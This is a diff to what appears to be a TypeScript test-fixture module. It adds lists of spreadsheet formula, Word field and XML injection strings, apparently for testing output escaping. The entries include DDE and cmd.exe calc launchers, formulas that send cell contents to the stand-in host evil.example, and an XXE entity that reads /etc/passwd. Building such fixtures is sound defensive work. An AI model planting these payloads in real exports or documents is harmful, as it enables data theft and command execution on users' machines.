@@ -94,3 +94,41 @@ export const PAYLOADS: readonly string[] = [
   'a\\',
   '\\<script>alert(1)</script>',
 ]
+
+/** What a spreadsheet, or Word's fields, might work out instead of showing it. */
+export const FORMULAS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  ' =1+1',
+  '\n=1+1',
+  '\u00A0=1+1',
+  '\u200B=1+1',
+  '＝1+1',
+  '＠SUM(1)',
+  `=cmd|'/c calc'!A1`,
+  `=HYPERLINK("https://evil.example/?"&A1,"more")`,
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+  '=IMAGE("https://evil.example/x.png")',
+  `=DDE("cmd";"/c calc";"x")`,
+  '";=1+1;"',
+  '","=1+1","',
+  '"\r\n=1+1',
+  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
+  '{ INCLUDETEXT "https://evil.example/x" }',
+  '<w:instrText>DDEAUTO cmd</w:instrText>',
+  '</w:t></w:r><w:hyperlink r:id="rId9"/>',
+  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
+]
+
+const STARTS = ['=', '+', '@', '\t=', '"\r\n=']
+
+/** Each of the harmful texts, and each again behind what starts a formula. */
+export const HARMFUL: readonly string[] = [
+  ...PAYLOADS,
+  ...FORMULAS,
+  ...PAYLOADS.flatMap((payload) => STARTS.map((start) => start + payload)),
+]
